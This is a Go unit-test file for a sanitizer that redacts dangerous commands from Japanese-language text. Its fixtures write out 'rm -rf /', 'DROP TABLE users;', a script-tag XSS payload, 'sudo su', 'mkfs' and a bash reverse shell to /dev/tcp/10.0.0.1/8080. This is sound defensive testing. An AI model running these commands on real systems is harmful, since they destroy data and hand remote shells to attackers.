package sanitizer

import (
	"strings"
	"testing"
)

func TestSanitize_DestructiveShell(t *testing.T) {
	text := "ファイルを削除するには rm -rf / を実行します。"

	sanitized, removed := Sanitize(text)

	if strings.Contains(sanitized, "rm -rf /") {
		t.Errorf("dangerous command still present: %q", sanitized)
	}
	if !strings.Contains(sanitized, RedactedNotice) {
		t.Errorf("redaction notice missing: %q", sanitized)
	}
	if len(removed) != 1 {
		t.Fatalf("removed = %v, want 1 entry", removed)
	}
	if !strings.HasPrefix(removed[0], "破壊的シェルコマンド: ") {
		t.Errorf("removed[0] = %q, want destructive-shell label", removed[0])
	}
}

func TestSanitize_DestructiveSQL(t *testing.T) {
	sanitized, removed := Sanitize("テーブルを消すには DROP TABLE users; です。")

	if strings.Contains(sanitized, "DROP TABLE") {
		t.Errorf("DROP TABLE still present: %q", sanitized)
	}
	if len(removed) == 0 {
		t.Error("expected at least one removed item")
	}
}

func TestSanitize_ScriptInjection(t *testing.T) {
	sanitized, removed := Sanitize("こちらを試してください: <script>alert('xss')</script>")

	if strings.Contains(sanitized, "<script>") {
		t.Errorf("script tag still present: %q", sanitized)
	}
	if len(removed) == 0 {
		t.Error("expected at least one removed item")
	}
}

func TestSanitize_ReverseShell(t *testing.T) {
	sanitized, removed := Sanitize("bash -i >& /dev/tcp/10.0.0.1/8080 0>&1")

	if strings.Contains(sanitized, "/dev/tcp/") {
		t.Errorf("reverse shell still present: %q", sanitized)
	}
	if len(removed) == 0 {
		t.Error("expected at least one removed item")
	}
}

func TestSanitize_PrivilegeEscalation(t *testing.T) {
	sanitized, removed := Sanitize("sudo su で root になれます")

	if strings.Contains(sanitized, "sudo su") {
		t.Errorf("sudo su still present: %q", sanitized)
	}
	if len(removed) != 1 {
		t.Fatalf("removed = %v, want 1 entry", removed)
	}
	if !strings.HasPrefix(removed[0], "権限昇格コマンド: ") {
		t.Errorf("removed[0] = %q, want privilege-escalation label", removed[0])
	}
}

func TestSanitize_SafeTextUnchanged(t *testing.T) {
	for _, text := range []string{
		"SELECT * FROM users WHERE id = 1; これは安全なクエリです。",
		"rm -f tempfile.txt でファイルを消せます。",
		"通常の日本語テキストです。",
	} {
		sanitized, removed := Sanitize(text)
		if sanitized != text {
			t.Errorf("safe text modified:\ngot  %q\nwant %q", sanitized, text)
		}
		if len(removed) != 0 {
			t.Errorf("removed = %v for safe text %q", removed, text)
		}
	}
}

func TestSanitize_Idempotent(t *testing.T) {
	inputs := []string{
		"rm -rf / を実行",
		"DROP TABLE users; と <script>alert(1)</script>",
		"sudo su してから mkfs を叩く",
	}
	for _, text := range inputs {
		once, _ := Sanitize(text)
		twice, removed := Sanitize(once)
		if twice != once {
			t.Errorf("second pass changed output for %q:\nonce  %q\ntwice %q", text, once, twice)
		}
		if len(removed) != 0 {
			t.Errorf("second pass removed %v for %q", removed, text)
		}
	}
}
